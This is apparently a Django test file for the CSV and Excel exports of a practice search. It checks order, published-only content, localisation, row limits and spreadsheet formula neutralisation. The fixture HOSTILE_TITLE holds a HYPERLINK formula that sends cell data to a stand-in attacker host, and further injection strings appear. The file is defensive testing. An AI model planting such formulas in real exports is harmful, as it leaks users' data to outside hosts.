"""The CSV and Excel downloads of a search: read back, they hold the search's results in its
order, published content only, in the visitor's language, with no formula a spreadsheet runs."""

import csv
import io

import pytest
from django.http import QueryDict, StreamingHttpResponse
from openpyxl import load_workbook

from exports.columns import neutralised
from exports.rows import export_rows
from practices import search
from practices.models import Practice, Theme

Status = Practice.Status
pytestmark = pytest.mark.django_db
CSV_URL = "/exports/practices.csv"
XLSX_URL = "/exports/practices.xlsx"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def practices(make_practice):
    housing = Theme.objects.get(slug="housing")
    education = Theme.objects.get(slug="education")
    made = {
        "housing": make_practice(
            Status.PUBLISHED, title="Fair rents desk", themes=[housing], start_year=2015
        ),
        "both": make_practice(
            Status.PUBLISHED,
            title="Schools and homes for newcomers",
            themes=[housing, education],
            summary="Housing advice given in schools.",
            start_year=2018,
            end_year=2021,
        ),
        "hostile": make_practice(Status.PUBLISHED, title=HOSTILE_TITLE, themes=[education]),
        "minus": make_practice(
            Status.PUBLISHED, title="Anti-racism week", summary="-1 complaints", themes=[housing]
        ),
    }
    for status in [Status.DRAFT, Status.SUBMITTED, Status.ARCHIVED]:
        made[status] = make_practice(status, title=f"Secret housing practice {status}")
    return made


def read_csv(response):
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(cells) for cells in workbook.active.iter_rows(values_only=True)]


def site_ids(query):
    """The ids the search page lists, in its order (one page: the tests' searches are short)."""
    return [practice.pk for practice in search.run(QueryDict(query)).page.object_list]


@pytest.mark.parametrize(
    "query",
    ["", "q=housing", "theme=housing", "theme=housing&sort=title", "sort=city", "q=rents+schools"],
)
def test_csv_round_trip_has_the_searchs_results_in_order(client, practices, query):
    response = client.get(f"{CSV_URL}?{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["ID", "Slug", "Title"]
    assert [int(cells[0]) for cells in body] == site_ids(query)
    assert all(len(cells) == len(header) for cells in body)


def test_csv_holds_published_content_only_and_never_the_contact(client, practices):
    content = b"".join(client.get(CSV_URL).streaming_content).decode()
    assert "Secret housing practice" not in content
    practice = practices["both"]
    assert practice.contact_email and practice.contact_email not in content
    assert practice.contact_name not in content
    rows = read_csv(client.get(f"{CSV_URL}?q=schools"))
    (cells,) = rows[1:]
    values = dict(zip(rows[0], cells, strict=True))
    assert values["Title"] == "Schools and homes for newcomers"
    assert values["Themes"] == "Fair access to housing; Education against racism"
    assert values["Start year"] == "2018"
    assert values["End year"] == "2021"
    assert values["City"] == practice.city.name
    assert values["Coalition"] == practice.city.coalition.name
    assert values["URL"].endswith(f"/practices/{practice.slug}/")
    assert values["Published at"].startswith(str(practice.published_at.year))


def test_the_header_is_in_the_visitors_language(client, practices):
    rows = read_csv(client.get(f"/fr{CSV_URL}?theme=housing"))
    assert rows[0][2:7] == ["Titre", "Ville", "Pays", "Coalition", "Thèmes"]
    assert "Dernière mise à jour" in rows[0]
    assert rows[1][-3].startswith("http://") and "/fr/practices/" in rows[1][-3]
    workbook_rows = read_xlsx(client.get(f"/fr{XLSX_URL}"))
    assert workbook_rows[0] == rows[0]


def test_formulas_come_out_as_text_in_both_files(client, practices):
    rows = read_csv(client.get(CSV_URL))
    titles = [cells[2] for cells in rows[1:]]
    assert f"'{HOSTILE_TITLE}" in titles
    assert HOSTILE_TITLE not in titles
    summaries = [cells[12] for cells in rows[1:]]
    assert "'-1 complaints" in summaries
    workbook = load_workbook(io.BytesIO(b"".join(client.get(XLSX_URL).streaming_content)))
    sheet = workbook.active
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    hostile = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert hostile.data_type == "s"  # a string, not a formula ("f")
    assert hostile.value == f"'{HOSTILE_TITLE}"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("a=b", "a=b"),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralised(value, expected):
    assert neutralised(value) == expected


def test_xlsx_round_trip(client, practices):
    response = client.get(f"{XLSX_URL}?theme=housing&sort=title")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="iccar-practices.xlsx"' in response["Content-Disposition"]
    rows = read_xlsx(response)
    assert rows[0][:3] == ["ID", "Slug", "Title"]
    assert [cells[0] for cells in rows[1:]] == site_ids("theme=housing&sort=title")
    assert not any("Secret" in str(cells[2]) for cells in rows[1:])


def test_bad_parameters_are_left_out_as_the_search_leaves_them(client, practices):
    query = "theme=nope&year_from=abc&sort=bogus&page=x&unknown=1"
    rows = read_csv(client.get(f"{CSV_URL}?{query}"))
    assert [int(cells[0]) for cells in rows[1:]] == site_ids(query)
    assert client.get(f"{XLSX_URL}?q=%00%00&year_to=99999").status_code == 200


def test_a_file_past_the_limit_says_it_was_cut(client, practices, settings):
    settings.EXPORT_MAX_ROWS = 2
    rows = read_csv(client.get(CSV_URL))
    assert len(rows) == 1 + 2 + 1
    assert rows[-1][0].startswith("This file stops at 2 practices")
    assert [int(cells[0]) for cells in rows[1:3]] == site_ids("")[:2]
    rows = read_xlsx(client.get(XLSX_URL))
    assert rows[-1][0].startswith("This file stops at 2 practices")
    # Exactly at the limit: nothing is cut.
    settings.EXPORT_MAX_ROWS = 4
    assert len(read_csv(client.get(CSV_URL))) == 1 + 4


def test_rows_are_read_in_chunks(practices, monkeypatch):
    monkeypatch.setattr("exports.rows.CHUNK_SIZE", 1)
    rows = list(export_rows(QueryDict("")))
    assert [cells[0] for cells in rows[1:]] == site_ids("")


def test_post_is_refused(client, practices):
    assert client.post(CSV_URL).status_code == 405
